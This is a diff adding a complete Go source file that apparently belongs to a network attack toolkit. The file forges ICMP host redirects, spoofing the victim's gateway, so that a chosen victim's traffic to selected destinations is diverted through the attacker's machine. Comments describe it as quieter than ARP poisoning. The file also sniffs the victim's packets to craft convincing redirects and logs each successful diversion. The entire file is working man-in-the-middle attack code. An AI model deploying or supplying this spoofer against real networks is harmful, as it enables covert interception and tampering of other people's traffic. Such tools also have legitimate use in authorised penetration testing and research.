@@ -0,0 +1,239 @@
+package spoof
+
+import (
+	"bytes"
+	"context"
+	"encoding/binary"
+	"errors"
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+	"github.com/tinygoprogs/netmess/discovery"
+	"log"
+	"net"
+	"sync"
+	"time"
+)
+
+// Diverts the traffic of a single victim for selected destinations via ICMP
+// host redirects, claiming to come from its current gateway. Quieter than
+// ARP poisoning as neither the victim's nor the gateway's ARP cache is
+// touched.
+//
+// Implements Spoof interface.
+type ICMPRedirect struct {
+	stats
+	// redirects are re-sent every InjectRate, victims age them out
+	InjectRate   time.Duration
+	Destinations []net.IP
+
+	net      *discovery.Network
+	listener *discovery.Listener
+	victim   discovery.Host
+	gateway  *discovery.Host
+	lock     sync.Mutex
+	// destination -> the victim sends it to our MAC
+	shifted map[string]bool
+	// destination -> last sniffed datagram, quoted in the redirect
+	quote  map[string][]byte
+	cancel context.CancelFunc
+	// closed once inject_loop returned
+	done chan struct{}
+}
+
+// Redirect traffic of <victim> for all <dst> to us. The gateway the redirect
+// pretends to come from is the default gateway of the Network.
+func NewICMPRedirect(n *discovery.Network, victim string, dst ...string) (*ICMPRedirect, error) {
+	gateway, err := n.Gateway()
+	if err != nil {
+		return nil, errors.New("gateway unknown")
+	}
+	return newICMPRedirect(n, gateway, victim, dst...)
+}
+
+func newICMPRedirect(n *discovery.Network, gateway *discovery.Host, victim string, dst ...string) (*ICMPRedirect, error) {
+	if len(dst) == 0 {
+		return nil, errors.New("rtfm")
+	}
+	r := ICMPRedirect{
+		InjectRate: time.Second * 5,
+		net:        n,
+		gateway:    gateway,
+		shifted:    make(map[string]bool, len(dst)),
+		quote:      make(map[string][]byte, len(dst)),
+	}
+	for _, d := range dst {
+		ip := net.ParseIP(d).To4()
+		if ip == nil {
+			return nil, errors.New("parsing err")
+		}
+		r.Destinations = append(r.Destinations, ip)
+	}
+	ip := net.ParseIP(victim).To4()
+	if ip == nil {
+		return nil, errors.New("parsing err")
+	}
+	host, err := n.GetHostByIP(victim)
+	if err != nil {
+		return nil, err
+	}
+	// <victim> rather than the host's primary address: the traffic to quote
+	// and the redirects are about that one
+	r.victim = discovery.Host{Addr: ip, Mac: host.Mac}
+	return &r, nil
+}
+
+var icmpRedirectReason = discovery.ListenerReason{Class: discovery.PassiveListener, Name: "spoof icmp redirect: track victim"}
+
+func (r *ICMPRedirect) inject_loop(ctx context.Context) {
+	defer close(r.done)
+	ticker := time.NewTicker(r.InjectRate)
+	defer ticker.Stop()
+	for {
+		r.inject()
+		select {
+		case <-ticker.C:
+		case <-ctx.Done():
+			return
+		}
+	}
+}
+
+// start the injector
+func (r *ICMPRedirect) Start() error {
+	var err error
+	r.listener, err = r.net.Listeners.Add(icmpRedirectReason, r.track,
+		discovery.LayerFilter(layers.LayerTypeIPv4))
+	if err != nil {
+		return err
+	}
+	var ctx context.Context
+	ctx, r.cancel = context.WithCancel(context.Background())
+	r.done = make(chan struct{})
+	go r.inject_loop(ctx)
+	return nil
+}
+
+// stop the injector; there is no way to revoke a redirect, it times out
+func (r *ICMPRedirect) Stop() {
+	if r.cancel == nil {
+		// never started
+		return
+	}
+	r.cancel()
+	// no redirect after Stop returned
+	<-r.done
+	r.listener.Remove()
+}
+
+// Destinations the victim actually sends to us by now.
+func (r *ICMPRedirect) Shifted() []net.IP {
+	r.lock.Lock()
+	defer r.lock.Unlock()
+	var ips []net.IP
+	for _, d := range r.Destinations {
+		if r.shifted[d.String()] {
+			ips = append(ips, d)
+		}
+	}
+	return ips
+}
+
+// Watch victim traffic to Destinations: remember a datagram to quote and
+// whether it is already sent to us.
+func (r *ICMPRedirect) track(pkt gopacket.Packet) {
+	eth, ok := pkt.LinkLayer().(*layers.Ethernet)
+	if !ok || bytes.Equal(eth.SrcMAC, r.net.Localhost.Mac) {
+		// our own copy when forwarding the victim's traffic
+		return
+	}
+	ip, ok := pkt.NetworkLayer().(*layers.IPv4)
+	if !ok || !ip.SrcIP.Equal(r.victim.Addr) {
+		return
+	}
+	if !r.isDestination(ip.DstIP) {
+		return
+	}
+	dst := ip.DstIP.String()
+	r.lock.Lock()
+	defer r.lock.Unlock()
+	r.quote[dst] = append(append([]byte(nil), ip.Contents...), firstN(ip.Payload, 8)...)
+	toUs := bytes.Equal(eth.DstMAC, r.net.Localhost.Mac)
+	if toUs && !r.shifted[dst] {
+		r.hit(r.victim.Addr.String())
+		log.Printf("[+] icmp redirect: %v -> %s via us", r.victim.Addr, dst)
+	} else if !toUs && r.shifted[dst] {
+		log.Printf("icmp redirect: %v -> %s reverted", r.victim.Addr, dst)
+	}
+	r.shifted[dst] = toUs
+}
+
+func (r *ICMPRedirect) isDestination(ip net.IP) bool {
+	for _, d := range r.Destinations {
+		if d.Equal(ip) {
+			return true
+		}
+	}
+	return false
+}
+
+func (r *ICMPRedirect) inject() {
+	for _, dst := range r.Destinations {
+		r.lock.Lock()
+		quote := r.quote[dst.String()]
+		r.lock.Unlock()
+		if quote == nil {
+			quote = r.fakeQuote(dst)
+		}
+
+		leth := layers.Ethernet{
+			SrcMAC:       r.net.Localhost.Mac,
+			DstMAC:       r.victim.Mac,
+			EthernetType: layers.EthernetTypeIPv4,
+		}
+		lip := layers.IPv4{
+			Version:  4,
+			TTL:      64,
+			Protocol: layers.IPProtocolICMPv4,
+			SrcIP:    r.gateway.Addr,
+			DstIP:    r.victim.Addr,
+		}
+		gw := binary.BigEndian.Uint32(r.net.Localhost.Addr.To4())
+		licmp := layers.ICMPv4{
+			TypeCode: layers.CreateICMPv4TypeCode(layers.ICMPv4TypeRedirect,
+				layers.ICMPv4CodeHost),
+			// the new gateway lives where echo id/seq would
+			Id:  uint16(gw >> 16),
+			Seq: uint16(gw),
+		}
+		r.write(r.net, &leth, &lip, &licmp, gopacket.Payload(quote))
+	}
+}
+
+// IP header + 8 bytes of a ping victim -> <dst>, for destinations we have
+// not seen traffic to yet
+func (r *ICMPRedirect) fakeQuote(dst net.IP) []byte {
+	buf := gopacket.NewSerializeBuffer()
+	opts := gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}
+	gopacket.SerializeLayers(buf, opts,
+		&layers.IPv4{
+			Version:  4,
+			TTL:      64,
+			Protocol: layers.IPProtocolICMPv4,
+			SrcIP:    r.victim.Addr,
+			DstIP:    dst,
+		},
+		&layers.ICMPv4{
+			TypeCode: layers.CreateICMPv4TypeCode(layers.ICMPv4TypeEchoRequest, 0),
+			Id:       1,
+			Seq:      1,
+		},
+	)
+	return buf.Bytes()
+}
+
+func firstN(b []byte, n int) []byte {
+	if len(b) < n {
+		return b
+	}
+	return b[:n]
+}